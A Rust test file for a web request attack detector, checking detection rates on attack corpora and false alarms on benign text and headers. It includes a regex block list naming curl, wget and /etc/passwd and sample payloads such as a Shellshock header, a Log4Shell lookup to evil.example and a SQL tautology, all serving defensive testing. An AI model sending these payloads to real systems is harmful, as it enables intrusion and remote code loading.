//! The detector against collections of attacks and of honest text.

use std::path::Path;

use api::domain::security::detector::{Part, inspect};
use regex::RegexSet;

use super::own_cases::CASES;

/// The lines of a collection, separated by line feeds alone.
fn lines(name: &str) -> Vec<String> {
    let folder = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/corpora"));
    let text = std::fs::read(folder.join(name)).unwrap_or_else(|error| panic!("{name}: {error}"));
    String::from_utf8_lossy(&text).split('\n').filter(|line| !line.is_empty()).map(str::to_owned).collect()
}

/// Percent of the lines of which something holds.
fn percent(lines: &[String], holds: impl Fn(&str) -> bool) -> f64 {
    let count = lines.iter().filter(|line| holds(line)).count();
    count as f64 * 100.0 / lines.len() as f64
}

fn event(line: &str) -> bool {
    inspect(Part::Query, line).is_event()
}

/// Attacks are found at least as often as security.md asks for (A1 – A4); the patterns of the original are far from it.
#[test]
fn attacks_are_found() {
    let original = RegexSet::new([
        r"(?i)(union|select|insert|update|delete|drop|create|alter|exec|execute)\s",
        r"(?i)(<script|javascript:|onerror=|onload=)",
        r"\.\./",
        r"(?i)(;|\|)\s*(ls|cat|rm|wget|curl)\b",
        r"(?i)/etc/passwd",
    ])
    .unwrap();
    for (name, floor) in [("sqli", 94.0), ("xss", 97.0), ("traversal", 95.0), ("cmdi", 79.0)] {
        let lines = lines(&format!("attack/attack-{name}.txt"));
        assert!(lines.len() > 600, "{name}: {} lines", lines.len());
        let found = percent(&lines, event);
        assert!(found >= floor, "{name}: {found:.2} %");
        let before = percent(&lines, |line| original.is_match(line));
        assert!(before < floor, "{name}: the original finds {before:.2} %");
    }
}

/// Of other kinds as well: 84 % of each on average, no kind far behind (A6).
#[test]
fn other_kinds_are_found() {
    let mut sum = 0.0;
    for (kind, lines) in CASES {
        assert!(lines.len() >= 20, "{kind}");
        let lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
        let missed: Vec<&String> = lines.iter().filter(|line| !event(line)).collect();
        let found = percent(&lines, event);
        assert!(found >= 75.0, "{kind}: {found:.1} %, not {missed:?}");
        sum += found;
    }
    assert!(sum / CASES.len() as f64 >= 84.0, "{sum}");
}

/// Honest text is left alone (A7 – A9), in whatever part of a request it stands, and never refused.
#[test]
fn honest_text_is_left_alone() {
    let sets = [
        ("benign/benign-core.txt", 0.24),
        ("prose-cc-by-sa/benign-prose-nl.txt", 0.05),
        ("benign/benign-hard.txt", 5.0),
    ];
    for (name, ceiling) in sets {
        let lines = lines(name);
        for part in [Part::Query, Part::Field] {
            let flagged = percent(&lines, |line| inspect(part, line).is_event());
            assert!(flagged <= ceiling, "{name} {part:?}: {flagged:.2} %");
        }
        if ceiling < 1.0 {
            let refused: Vec<&String> =
                lines.iter().filter(|line| inspect(Part::Query, line).is_refusal()).collect();
            assert!(refused.is_empty(), "{refused:?}");
        }
    }
}

/// Headers of browsers and of the clients that people send logs with raise no alarm; attacks in headers do.
#[test]
fn ordinary_headers_are_left_alone() {
    let header = |line: &str| inspect(Part::Header, line);
    for honest in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Elastic/8.14.0 (Linux; Python 3.11; pypi elasticsearch 8.14)",
        "opensearch-py/2.6.0 (Python 3.11.2)",
        "syslog-ng 3.38.1/libcurl 7.88.1",
        "Wget/1.21.3",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "http://192.168.1.20/start",
        "https://www.google.com/search?q=mvai+connexx+%22logistics%22&hl=nl",
        "10.0.0.1, 172.16.3.4",
        "session={\"a\":\"b\",\"c\":[1,2]}",
    ] {
        assert!(!header(honest).is_event(), "{honest}: {:?}", header(honest));
    }
    for attack in [
        "() { :;}; /bin/bash -c id",
        "${jndi:ldap://evil.example/a}",
        "' or 1=1 --",
        "<script>alert(1)</script>",
    ] {
        assert!(header(attack).is_event(), "{attack}");
    }
}

/// What comes late in a long value counts up to the bound of its part; nothing is too long, too deep or too strange.
#[test]
fn values_of_any_kind_are_judged() {
    let late = format!("{} ' or 1=1 --", "pallet ".repeat(100));
    assert!(event(&late));
    let hidden = format!("{} ' or 1=1 --", "pallet ".repeat(2_000));
    assert!(!event(&hidden), "looked at more than the bound");
    for strange in [
        "",
        "%",
        "%%%",
        "%u",
        "%u12",
        "&#",
        "&#x;",
        "&#99999999;",
        "\u{feff}",
        "%c0",
        "%fc%80",
        "é",
        "ﷺ",
        "\0",
    ] {
        assert!(!event(strange), "{strange:?}");
        // Repeated it may well be an attack; it is judged.
        let repeated = inspect(Part::Path, &strange.repeat(9_000));
        assert!(repeated.score >= repeated.sure, "{strange:?}");
    }
}
